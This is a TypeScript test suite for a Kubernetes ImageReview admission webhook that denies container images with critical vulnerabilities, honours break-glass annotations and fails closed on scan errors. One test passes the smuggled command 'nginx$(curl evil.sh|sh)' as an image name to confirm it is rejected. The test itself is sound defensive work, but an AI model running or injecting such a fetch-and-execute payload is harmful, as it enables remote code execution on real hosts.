import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { TESTDATA } from '../../test/helpers/paths.ts';
import { defaultPolicy, parsePolicy } from '../config/policy-schema.ts';
import type { Policy } from '../domain/policy.ts';
import { DIGEST_A, DIGEST_B, finding, tableLookup } from '../policy/testing.ts';
import { parseImageReview, reviewImageReview } from './image-review.ts';
import { ProtocolError, type ImageLookup } from './types.ts';

const K8S = join(TESTDATA, 'k8s');
const NOW = new Date('2025-06-15T12:00:00Z');
const opts = (ms = 2000) => ({ now: NOW, deadline: Date.now() + ms });
const json = (p: string): unknown => JSON.parse(readFileSync(p, 'utf8'));

/** The original example's curl body, byte for byte. */
const SEED_BODY = `{
"apiVersion": "imagepolicy.k8s.io/v1alpha1",
"kind": "ImageReview",
"spec": {
"containers": [
{"image": "alpine:3.22"},
{"image": "nginx:latest"}
]
}
}`;

/** What a Kubernetes 1.25 API server sends (issue 4), exactly. */
const K125 =
  '{"kind":"ImageReview","apiVersion":"imagepolicy.k8s.io/v1alpha1","metadata":{"creationTimestamp":null},"spec":{"containers":[{"image":"ghcr.io/acme/a:2"},{"image":"b"}],"annotations":{"mycluster.image-policy.k8s.io/ticket-1234":"break-glass"},"namespace":"default"},"status":{"allowed":false}}';

const vulnerableNginx = tableLookup({
  'nginx:latest': {
    state: 'scanned',
    digest: DIGEST_A,
    fromCache: false,
    findings: [finding('CVE-2023-1234', 'CRITICAL', 'openssl', '3.0.2', '3.0.7'), finding('CVE-2023-5678', 'HIGH', 'libxml2', '2.9.14', '2.9.14+dfsg-1.3')],
  },
});

async function review(body: unknown, lookup: ImageLookup, policy: Policy = defaultPolicy) {
  const out = await reviewImageReview(parseImageReview(body), lookup, policy, opts());
  assert.equal(out.json, JSON.stringify(out.response), 'the answer JSON is the response object serialised');
  return out;
}

describe('ImageReview: the original example', () => {
  it("the seed's curl body works unchanged: a decision plus per-image results", async () => {
    const lookup = tableLookup({ 'nginx:latest': { state: 'scanned', digest: DIGEST_A, fromCache: false, findings: [finding('CVE-2023-1234', 'CRITICAL', 'openssl', '3.0.2', '3.0.7')] } });
    const { response, decision } = await review(JSON.parse(SEED_BODY), lookup);
    assert.deepEqual(lookup.calls, ['alpine:3.22', 'nginx:latest']);
    assert.equal(response.apiVersion, 'imagepolicy.k8s.io/v1alpha1');
    assert.equal(response.kind, 'ImageReview');
    assert.equal(response.status.allowed, false);
    assert.equal(decision.allowed, false);
    assert.deepEqual(
      response.status.results.map((r) => [r.image, r.allowed]),
      [
        ['alpine:3.22', true],
        ['nginx:latest', false],
      ],
    );
    assert.equal(
      response.status.reason,
      '1 of 2 images denied: nginx:latest (sha256:abababababab): 1 CRITICAL: CVE-2023-1234 (openssl 3.0.2, fixed 3.0.7)',
    );
    assert.equal(response.status.results[1]?.digest, DIGEST_A);
    assert.equal(response.status.auditAnnotations?.['decision'], 'deny');
  });

  it('an allowed answer has no reason (the API documents reason for denials only)', async () => {
    const { response } = await review(JSON.parse(SEED_BODY), tableLookup({}));
    assert.equal(response.status.allowed, true);
    assert.equal('reason' in response.status, false);
    assert.equal(response.status.results.length, 2);
  });

  it('no containers: deny with a reason, as the seed does', async () => {
    for (const body of [
      { apiVersion: 'imagepolicy.k8s.io/v1alpha1', kind: 'ImageReview' },
      { apiVersion: 'imagepolicy.k8s.io/v1alpha1', kind: 'ImageReview', spec: {} },
      { apiVersion: 'imagepolicy.k8s.io/v1alpha1', kind: 'ImageReview', spec: { containers: [] } },
      { apiVersion: 'imagepolicy.k8s.io/v1alpha1', kind: 'ImageReview', spec: { containers: null } },
    ]) {
      const lookup = tableLookup({});
      const { response, decision } = await review(body, lookup);
      assert.equal(response.status.allowed, false);
      assert.equal(response.status.reason, 'no containers provided');
      assert.equal(decision.code, 'no-containers');
      assert.deepEqual(lookup.calls, []);
    }
    // Even in audit mode: a pod without containers is not a policy question.
    const { response } = await review({ apiVersion: 'imagepolicy.k8s.io/v1alpha1', kind: 'ImageReview', spec: {} }, tableLookup({}), parsePolicy({ mode: 'audit' }));
    assert.equal(response.status.allowed, false);
  });
});

describe('ImageReview: what a real API server sends', () => {
  it('Kubernetes 1.25 on the wire: images as written, in order, annotations and namespace read', async () => {
    const r = parseImageReview(JSON.parse(K125));
    assert.deepEqual(r.spec.containers, [{ image: 'ghcr.io/acme/a:2' }, { image: 'b' }]);
    assert.deepEqual(r.spec.annotations, { 'mycluster.image-policy.k8s.io/ticket-1234': 'break-glass' });
    assert.equal(r.spec.namespace, 'default');
    const lookup = tableLookup({});
    const { response } = await reviewImageReview(r, lookup, defaultPolicy, opts());
    assert.deepEqual(lookup.calls, ['ghcr.io/acme/a:2', 'b'], 'looked up exactly as written, not normalised');
    assert.equal(response.status.allowed, true);
  });

  it("annotations are filtered as the API server does (key contains '.image-policy.k8s.io/')", () => {
    const r = parseImageReview({
      apiVersion: 'imagepolicy.k8s.io/v1alpha1',
      kind: 'ImageReview',
      spec: {
        containers: [{ image: 'a' }],
        annotations: { 'alpha.image-policy.k8s.io/break-glass': 'true', 'image-policy.k8s.io/x': '1', 'example.com/y': '2', 'a.b.image-policy.k8s.io/z': '3' },
      },
    });
    assert.deepEqual(r.spec.annotations, { 'alpha.image-policy.k8s.io/break-glass': 'true', 'a.b.image-policy.k8s.io/z': '3' });
  });

  it('its break-glass annotation is honoured when the policy names it (kubernetes docs convention)', async () => {
    const p = parsePolicy({ breakGlass: { enabled: true, annotation: '*.image-policy.k8s.io/ticket-*', value: 'break-glass' } });
    const lookup = tableLookup({ b: { state: 'scanned', digest: DIGEST_B, fromCache: false, findings: [finding('CVE-1', 'CRITICAL', 'x', '1')] } });
    const { response, decision } = await review(JSON.parse(K125), lookup, p);
    assert.equal(response.status.allowed, true);
    assert.equal(decision.breakGlass, true);
    assert.equal(decision.code, 'break-glass');
    assert.deepEqual(lookup.calls, [], 'break-glass admits without contacting any registry');
    assert.equal(response.status.auditAnnotations?.['break-glass'], 'mycluster.image-policy.k8s.io/ticket-1234=break-glass');
  });

  it('the Kubernetes docs request: the 63-hex digest is an invalid reference, denied and never looked up', async () => {
    const dir = join(K8S, 'admission', 'k8s-docs-imagereview');
    const expected = (json(join(dir, 'expected.json')) as { expected: Record<string, { images: string[]; namespace: string; annotations: Record<string, string> }> }).expected;
    const want = expected['imagereview-request.json']!;
    const r = parseImageReview(json(join(dir, 'imagereview-request.json')));
    assert.deepEqual(r.spec.containers.map((c) => c.image), want.images);
    assert.equal(r.spec.namespace, want.namespace);
    assert.deepEqual(r.spec.annotations, want.annotations);
    const lookup = tableLookup({});
    const { response } = await reviewImageReview(r, lookup, defaultPolicy, opts());
    assert.deepEqual(lookup.calls, ['myrepo/myimage:v1']);
    assert.equal(response.status.allowed, false);
    assert.match(response.status.reason ?? '', /invalid image reference "myrepo\/myimage@sha256:beb6bd6a68f1[0-9a-f]+": digest: sha256 needs 64 lower-case hex digits/);
  });

  it('the docs responses have the shape we send', async () => {
    const dir = join(K8S, 'admission', 'k8s-docs-imagereview');
    const allow = json(join(dir, 'imagereview-response-allow.json')) as { apiVersion: string; kind: string; status: { allowed: boolean } };
    const deny = json(join(dir, 'imagereview-response-deny.json')) as { status: { allowed: boolean; reason: string } };
    const ok = await review({ apiVersion: 'imagepolicy.k8s.io/v1alpha1', kind: 'ImageReview', spec: { containers: [{ image: 'alpine:3.22' }] } }, tableLookup({}));
    assert.equal(ok.response.apiVersion, allow.apiVersion);
    assert.equal(ok.response.kind, allow.kind);
    assert.equal(ok.response.status.allowed, allow.status.allowed);
    const no = await review(JSON.parse(SEED_BODY), vulnerableNginx);
    assert.equal(no.response.status.allowed, deny.status.allowed);
    assert.equal(typeof no.response.status.reason, typeof deny.status.reason);
  });

  it('the fully populated kubernetes/api round-trip ImageReview parses (unknown annotations filtered)', async () => {
    const dir = join(K8S, 'api-roundtrip', 'HEAD');
    const exp = (json(join(dir, 'expected-images.json')) as { files: Record<string, { images: { image: string }[] }> }).files;
    const r = parseImageReview(json(join(dir, 'imagepolicy.k8s.io.v1alpha1.ImageReview.json')));
    assert.deepEqual(r.spec.containers.map((c) => c.image), exp['imagepolicy.k8s.io.v1alpha1.ImageReview.json']!.images.map((i) => i.image));
    assert.deepEqual(r.spec.annotations, {}, 'annotationsKey is not *.image-policy.k8s.io/*: a real API server would not forward it');
    assert.equal(r.spec.namespace, 'namespaceValue');
  });
});

describe('ImageReview: mixed pods and failures', () => {
  it('one bad image among good ones denies and names it (first, middle or last)', async () => {
    for (const at of [0, 1, 2]) {
      const images = ['alpine:3.22', 'busybox:1.36', 'redis:7'];
      images.splice(at, 0, 'nginx:latest');
      const body = { apiVersion: 'imagepolicy.k8s.io/v1alpha1', kind: 'ImageReview', spec: { containers: images.map((image) => ({ image })) } };
      const { response } = await review(body, vulnerableNginx);
      assert.equal(response.status.allowed, false, `bad image at ${at}`);
      assert.match(response.status.reason ?? '', /^1 of 4 images denied: nginx:latest \(sha256:abababababab\): 1 CRITICAL, 1 HIGH: CVE-2023-1234/);
      assert.deepEqual(response.status.results.filter((r) => !r.allowed).map((r) => r.image), ['nginx:latest']);
    }
  });

  it('shell metacharacters and a 10 KB image: denied "invalid image reference", never passed to the lookup', async () => {
    const lookup = tableLookup({});
    const body = {
      apiVersion: 'imagepolicy.k8s.io/v1alpha1',
      kind: 'ImageReview',
      spec: { containers: [{ image: 'alpine:3.22' }, { image: 'nginx$(curl evil.sh|sh)' }, { image: 'a'.repeat(10 * 1024) }, {}] },
    };
    const { response } = await review(body, lookup);
    assert.deepEqual(lookup.calls, ['alpine:3.22']);
    assert.equal(response.status.allowed, false);
    const denied = response.status.results.filter((r) => !r.allowed);
    assert.equal(denied.length, 3);
    for (const r of denied) assert.match(r.reason, /^invalid image reference/);
    assert.ok((response.status.reason ?? '').length < 2100);
    assert.ok(JSON.stringify(response).length < 16_000, 'the 10 KB image is echoed in results only, clipped in reasons');
  });

  it('identical images share one lookup', async () => {
    const lookup = tableLookup({});
    await review({ apiVersion: 'imagepolicy.k8s.io/v1alpha1', kind: 'ImageReview', spec: { containers: [{ image: 'a:1' }, { image: 'a:1' }, { image: 'b:1' }] } }, lookup);
    assert.deepEqual(lookup.calls, ['a:1', 'b:1']);
  });

  it('a lookup that throws is a scan error (fail closed), with no exception text in the answer', async () => {
    const lookup: ImageLookup = async () => {
      throw new Error('ECONNREFUSED 10.0.0.1:443 secret-token=abc');
    };
    const { response, decision } = await review(JSON.parse(SEED_BODY), lookup);
    assert.equal(response.status.allowed, false);
    assert.equal(decision.code, 'scan-error');
    assert.doesNotMatch(JSON.stringify(response), /ECONNREFUSED|secret-token/);
    const open = await review(JSON.parse(SEED_BODY), lookup, parsePolicy({ onError: 'allow' }));
    assert.equal(open.response.status.allowed, true);
  });

  it('a lookup answering garbage is a scan error; one echoing another image name still names the image as written', async () => {
    const garbage = (async () => ({ state: 'done' })) as unknown as ImageLookup;
    const g = await review(JSON.parse(SEED_BODY), garbage);
    assert.equal(g.decision.code, 'scan-error');
    assert.equal(g.response.status.allowed, false);
    const renamed: ImageLookup = async (image) => ({ state: 'scanned', image: `docker.io/library/${image}`, digest: DIGEST_A, findings: [], fromCache: false });
    const r = await review(JSON.parse(SEED_BODY), renamed);
    assert.deepEqual(r.response.status.results.map((x) => x.image), ['alpine:3.22', 'nginx:latest']);
    assert.equal(r.response.status.allowed, true);
  });

  it('a lookup slower than the deadline is pending: "scan in progress, retry", answered in time', async () => {
    const never: ImageLookup = (image) => new Promise((resolve) => setTimeout(() => resolve({ state: 'scanned', image, digest: DIGEST_A, findings: [], fromCache: false }), 5000).unref());
    const t0 = Date.now();
    const { response, decision } = await reviewImageReview(parseImageReview(JSON.parse(SEED_BODY)), never, defaultPolicy, { now: NOW, deadline: Date.now() + 100 });
    assert.ok(Date.now() - t0 < 2000);
    assert.equal(response.status.allowed, false);
    assert.equal(decision.code, 'pending');
    assert.match(response.status.results[0]?.reason ?? '', /scan in progress, retry/);
  });

  it('warn mode: ImageReview has no warnings field, so the would-be denial is in auditAnnotations', async () => {
    const { response } = await review(JSON.parse(SEED_BODY), vulnerableNginx, parsePolicy({ mode: 'warn' }));
    assert.equal(response.status.allowed, true);
    assert.equal(response.status.auditAnnotations?.['decision'], 'warn');
    assert.match(response.status.auditAnnotations?.['warnings'] ?? '', /would be denied: nginx:latest/);
  });
});

describe('ImageReview: protocol errors', () => {
  const cases: [string, unknown, number, RegExp][] = [
    ['not an object', 'hello', 400, /must be a JSON object/],
    ['an array', [], 400, /must be a JSON object/],
    ['null', null, 400, /must be a JSON object/],
    ['wrong apiVersion', { apiVersion: 'imagepolicy.k8s.io/v1', kind: 'ImageReview', spec: {} }, 422, /expected apiVersion imagepolicy\.k8s\.io\/v1alpha1 kind ImageReview, got imagepolicy\.k8s\.io\/v1 ImageReview/],
    ['wrong kind', { apiVersion: 'imagepolicy.k8s.io/v1alpha1', kind: 'AdmissionReview' }, 422, /kind ImageReview/],
    ['no apiVersion', { kind: 'ImageReview', spec: {} }, 422, /got \(none\) ImageReview/],
    ['containers not a list', { apiVersion: 'imagepolicy.k8s.io/v1alpha1', kind: 'ImageReview', spec: { containers: 'nginx' } }, 400, /spec\.containers/],
    ['image not a string', { apiVersion: 'imagepolicy.k8s.io/v1alpha1', kind: 'ImageReview', spec: { containers: [{ image: 42 }] } }, 400, /spec\.containers\[0\]\.image/],
    ['annotation value not a string', { apiVersion: 'imagepolicy.k8s.io/v1alpha1', kind: 'ImageReview', spec: { containers: [{ image: 'a' }], annotations: { 'x.image-policy.k8s.io/y': true } } }, 400, /spec\.annotations/],
    ['2000 containers', { apiVersion: 'imagepolicy.k8s.io/v1alpha1', kind: 'ImageReview', spec: { containers: Array.from({ length: 2000 }, () => ({ image: 'a' })) } }, 400, /spec\.containers/],
  ];
  for (const [name, body, status, re] of cases) {
    it(`${name} → ${status}`, () => {
      assert.throws(
        () => parseImageReview(body),
        (err: unknown) => err instanceof ProtocolError && err.statusCode === status && re.test(err.message) && !err.message.includes('\n'),
      );
    });
  }
});
